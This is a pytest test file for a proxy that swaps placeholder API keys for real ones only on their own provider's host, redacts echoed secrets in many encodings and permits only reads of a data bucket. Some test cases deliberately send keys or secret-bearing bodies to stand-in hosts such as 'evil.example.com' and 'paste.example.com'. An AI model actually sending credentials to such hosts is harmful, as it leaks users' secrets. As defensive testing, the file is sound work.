"""The real proxy between a box with placeholders and a fake internet: which keys arrive where."""

from __future__ import annotations

import base64
import json
import time

import pytest

from nab.core.agents.providers import listed
from support.attacks import attacks
from support.attacks.senders import one
from support.repository.vendors import PLACEHOLDERS, VENDORS
from support.servers import internets, proxies

KEYS = proxies.KEYS | {
    "anthropic": {"api_key": "sk-ant-REAL-API-KEY", "oauth_token": "sk-ant-REAL-LOGIN"},
    "openai": {"access_token": "eyREAL.CHATGPT.LOGIN", "account_id": "REAL-ACCOUNT"},
    "google": {"api_key": "AIzaREALGOOGLEKEY"},
}
SECRETS = [
    "REALSECRETKEY",
    "sk-ant-REAL-API-KEY",
    "sk-ant-REAL-LOGIN",
    "eyREAL.CHATGPT.LOGIN",
    "AIzaREALGOOGLEKEY",
]
CLAUDE, GPT, CHATGPT = "api.anthropic.com", "api.openai.com", "chatgpt.com"
GEMINI = "generativelanguage.googleapis.com"
# A call that the key of each host is for; what ChatGPT's login is for is the operator's word.
LINES = {
    CLAUDE: "POST /v1/messages HTTP/1.1",
    GPT: "POST /v1/responses HTTP/1.1",
    CHATGPT: "POST /backend-api/codex/responses HTTP/1.1",
    GEMINI: "POST /v1beta/models/gemini-3.8-flash:generateContent HTTP/1.1",
}
ADDED = {"openai": ("POST chatgpt.com/backend-api/codex/responses", "WEBSOCKET chatgpt.com/ws")}
TALK = """
import socket, ssl, sys
host, body, *headers = sys.argv[1:]
talk = ssl.create_default_context().wrap_socket(socket.create_connection((host, 443), 5), server_hostname=host)
lines = ["GET /ws HTTP/1.1", f"Host: {host}", "Upgrade: websocket", "Connection: Upgrade",
         "Sec-WebSocket-Version: 13", "Sec-WebSocket-Key: eHh4eHh4eHh4eHh4eHh4eA==", *headers, "", ""]
talk.sendall("\\r\\n".join(lines).encode())
head = b""
while b"\\r\\n\\r\\n" not in head: head += talk.recv(4096)
talk.sendall(bytes([0x81, 0x80 | len(body)]) + bytes(4) + body.encode())
try:
    print(head.split(b"\\r\\n")[0], talk.recv(4096))
except OSError as error:
    print(type(error).__name__)
"""


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    root = tmp_path_factory.mktemp("k")
    with (
        internets.internet(root) as internet,
        proxies.lab(
            root, numerai="live", keys=KEYS, calls=listed(VENDORS, None, ADDED), change=internet.change
        ) as lab,
    ):
        yield lab, internet


def asked(world, host, *headers, line=None, body=b"", via="tls"):
    """Send a call to a host. Returns the answer, and what of it arrived."""
    lab, internet = world
    line = line or LINES.get(host, "GET /x HTTP/1.1")
    before = len(internet.received("http"))
    answer = one(
        lab, attacks.call(body, *headers, line=line, host=host, authorization=None), to=host, via=via
    )
    time.sleep(0.1)
    return answer, internet.received("http")[before:]


def arrived(call):
    return {name.lower(): value for name, value in call["headers"].items()}


@pytest.mark.parametrize(
    ("host", "header", "written", "held"),
    [
        (CLAUDE, "x-api-key", "{}", "anthropic.api_key"),
        (CLAUDE, "authorization", "Bearer {}", "anthropic.oauth_token"),
        (CHATGPT, "authorization", "Bearer {}", "openai.access_token"),
        (CHATGPT, "chatgpt-account-id", "{}", "openai.account_id"),
        (GEMINI, "x-goog-api-key", "{}", "google.api_key"),
    ],
)
def test_the_key_arrives_where_it_belongs(world, host, header, written, held):
    provider, field = held.split(".")
    _, (call,) = asked(world, host, (header, written.format(PLACEHOLDERS[provider][field])))

    assert arrived(call)[header] == written.format(KEYS[provider][field])


def test_googles_key_arrives_in_the_query(world):
    placeholder = PLACEHOLDERS["google"]["api_key"]
    path = "/v1beta/models/gemini-3.8-flash:streamGenerateContent?key={}&alt=sse"
    _, (call,) = asked(world, GEMINI, line=f"POST {path.format(placeholder)} HTTP/1.1")

    assert call["path"] == path.format("AIzaREALGOOGLEKEY")
    assert "REALGOOGLE" not in world[0].record.read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("host", "header", "value"),
    [
        ("evil.example.com", "x-api-key", PLACEHOLDERS["anthropic"]["api_key"]),
        (GPT, "authorization", f"Bearer {PLACEHOLDERS['anthropic']['api_key']}"),
        (CLAUDE, "x-goog-api-key", PLACEHOLDERS["google"]["api_key"]),
        (CLAUDE, "x-api-key", "sk-ant-REAL-API-KEY"),
        ("evil.example.com", "cookie", "a=sk-ant-REAL-LOGIN"),
    ],
    ids=["elsewhere", "another provider", "another's key", "a real key", "a real key elsewhere"],
)
def test_a_key_that_goes_anywhere_else_never_arrives(world, host, header, value):
    answer, calls = asked(world, host, (header, value))

    assert calls == []
    assert "x-nab-denied: key" in answer


def test_a_provider_without_a_key_is_told_so_in_its_clients_form(world):
    answer, calls = asked(world, GPT, ("authorization", f"Bearer {PLACEHOLDERS['openai']['api_key']}"))

    assert calls == []
    assert answer.startswith("HTTP/1.1 401")
    assert "no openai key is configured" in json.loads(answer.partition("\r\n\r\n")[2])["error"]["message"]


def test_a_placeholder_goes_nowhere_in_plain(world):
    answer, calls = asked(world, CLAUDE, ("x-api-key", PLACEHOLDERS["anthropic"]["api_key"]), via="plain")

    assert calls == []
    assert "x-nab-denied: key" in answer


def test_a_prompt_may_hold_what_the_environment_holds(world):
    body = json.dumps({"prompt": PLACEHOLDERS}).encode() * 50

    _, (call,) = asked(world, CLAUDE, line="POST /v1/messages HTTP/1.1", body=body)

    assert call["request_bytes"] == len(body)


@pytest.mark.parametrize(
    ("host", "held"),
    [
        (CLAUDE, "REALSECRETKEY"),
        ("paste.example.com", "REALSECRETKEY"),
        ("paste.example.com", "nab-placeholder-id"),
    ],
    ids=["a real key in a prompt", "a real key elsewhere", "a placeholder elsewhere"],
)
def test_a_body_with_a_key_is_cut_off_and_recorded(world, host, held):
    body = b"x" * 200_000 + held.encode() + b"x" * 200_000

    answer, _ = asked(world, host, line="POST /cut HTTP/1.1", body=body)

    assert not answer.startswith("HTTP/1.1 200")
    lines = world[0].lines(host=host, path="/cut", phase="done")
    assert lines[-1]["denied"]["rule"] == "key"
    assert held not in json.dumps(lines)


def test_a_real_key_in_an_answer_is_starred_out(world):
    pieces = [base64.b64encode(piece).decode() for piece in (b'{"key": "sk-ant-REAL', b'-API-KEY", "a": 1}')]
    told = base64.urlsafe_b64encode(
        json.dumps({"type": "application/json", "pieces": pieces}).encode()
    ).decode()

    answer, _ = asked(world, CLAUDE, line=f"GET /say/{told} HTTP/1.1")

    assert "sk-ant-REAL" not in answer
    assert "*" * len("sk-ant-REAL-API-KEY") in answer


UNDRESSED = {
    "plain": lambda body: body,
    "gzip": lambda body: body,
    "deflate": lambda body: body,
    "backwards": lambda body: body[::-1],
    "hex": lambda body: bytes.fromhex(body.replace(b"*", b"2a").decode()),
    "base64": lambda body: base64.b64decode(body.replace(b"*", b"A") + b"=="),
    "base64 after one": lambda body: base64.b64decode(body.replace(b"*", b"A") + b"=="),
    "base64 after two": lambda body: base64.urlsafe_b64decode(body.replace(b"*", b"A") + b"=="),
    "escapes": lambda body: bytes(int(one, 16) for one in body.replace(b"*", b"").split(rb"\u")[1:]),
    "percent": lambda body: bytes(int(one, 16) for one in body.replace(b"*", b"").split(b"%")[1:]),
}


@pytest.mark.parametrize("how", UNDRESSED)
def test_a_key_that_a_vendor_gives_back_is_starred_out_in_whatever_dress(world, how):
    key = ("x-api-key", PLACEHOLDERS["anthropic"]["api_key"])
    answer, (call,) = asked(
        world, CLAUDE, key, ("X-Echo", how), line="POST /v1/messages HTTP/1.1", body=b"{}"
    )

    head, _, body = answer.partition("\r\n\r\n")
    body = "".join(part for number, part in enumerate(body.split("\r\n")) if number % 2)
    assert arrived(call)["x-api-key"] == "sk-ant-REAL-API-KEY"
    assert arrived(call)["accept-encoding"] == "identity"
    assert "content-encoding" not in head.lower()
    assert f"x-echoed: {'*' * len('sk-ant-REAL-API-KEY')}" in head
    shown = UNDRESSED[how](body.encode("latin-1"))
    assert b"accept-encoding" in shown.lower()
    assert b"REAL-API" not in shown


def test_an_answer_that_is_packed_in_another_way_is_kept_back(world):
    key = ("x-api-key", PLACEHOLDERS["anthropic"]["api_key"])
    answer, (_,) = asked(world, CLAUDE, key, ("X-Echo", "br"), line="POST /v1/messages HTTP/1.1", body=b"{}")

    assert answer.startswith("HTTP/1.1 502")
    assert "REAL-API" not in answer
    (line,) = [line for line in world[0].lines(host=CLAUDE, phase="done") if line["error"]][-1:]
    assert "cannot be looked through" in line["error"]


DATA = "numerai-datasets-us-west-2.s3.amazonaws.com"
OTHER_BUCKET = "numerai-uploads-us-west-2.s3.amazonaws.com"


@pytest.mark.parametrize("line", ["GET /v5/live.parquet HTTP/1.1", "HEAD /v5/live.parquet HTTP/1.1"])
def test_the_data_host_is_read(world, line):
    answer, (call,) = asked(world, DATA, line=line)

    assert answer.startswith("HTTP/1.1 200")
    assert call["host"] == DATA


@pytest.mark.parametrize(
    ("line", "host"),
    [
        ("PUT /upload?sig=1 HTTP/1.1", OTHER_BUCKET),
        ("GET /upload?sig=1 HTTP/1.1", OTHER_BUCKET),
        ("PUT /v5/live.parquet HTTP/1.1", DATA),
        ("POST /v5/live.parquet HTTP/1.1", DATA),
        ("DELETE /v5/live.parquet HTTP/1.1", DATA),
        ("get /v5/live.parquet HTTP/1.1", DATA),
        (f"PUT https://{OTHER_BUCKET}/upload HTTP/1.1", DATA),
    ],
)
@pytest.mark.parametrize("via", ["tls", "connect"])
def test_nothing_but_reads_of_the_data_host_pass_through_it(world, line, host, via):
    lab, internet = world
    before = len(internet.received("http"))
    raw = attacks.call(b"id,prediction\n", line=line, host=host, authorization=None)

    answer = one(lab, raw, to=f"{DATA}:443" if via == "connect" else DATA, via=via)

    assert "x-nab-denied" in answer
    assert internet.received("http")[before:] == []


def test_the_second_call_on_a_connection_to_the_data_host_is_judged_as_well(world):
    lab, internet = world
    read = attacks.call(b"", line="GET /v5/live.parquet HTTP/1.1", host=DATA, authorization=None)
    write = attacks.call(b"x", line="PUT /upload?sig=1 HTTP/1.1", host=OTHER_BUCKET, authorization=None)
    before = len(internet.received("http"))

    one(lab, read + write, to=DATA)

    lab.lines(path="/upload", host=DATA, method="PUT")
    assert [call["method"] for call in internet.received("http")[before:]] == ["GET"]


def test_a_websocket_carries_no_key_but_in_its_head(world):
    lab, internet = world
    login = f"Authorization: Bearer {PLACEHOLDERS['openai']['access_token']}"

    fine = lab.run("python3", "-c", TALK, CHATGPT, "hello nab-placeholder-id", login)
    refused = ((CHATGPT, "REALSECRETKEY"), ("a.example.com", "nab-placeholder-id"))
    cut = [lab.tried("python3", "-c", TALK, *call)[1] for call in refused]

    assert "101" in fine
    assert "hello nab-placeholder-id" in fine
    assert "Bearer eyREAL.CHATGPT.LOGIN" in {
        arrived(call).get("authorization") for call in internet.received("http")
    }
    assert not any("REALSECRETKEY" in said or "nab-placeholder" in said for said in cut)
    assert [
        line["denied"]["rule"]
        for line in lab.lines(2, path="/ws", status=101, phase="done")
        if line["denied"]
    ] == ["key", "key"]


def test_no_real_key_is_kept_anywhere(world):
    lab, _ = world
    kept = lab.record.read_text(encoding="utf-8") + lab.proxy.logs().decode() + json.dumps(lab.proxy.attrs)

    assert not [secret for secret in SECRETS if secret in kept or secret in lab.run("env")]
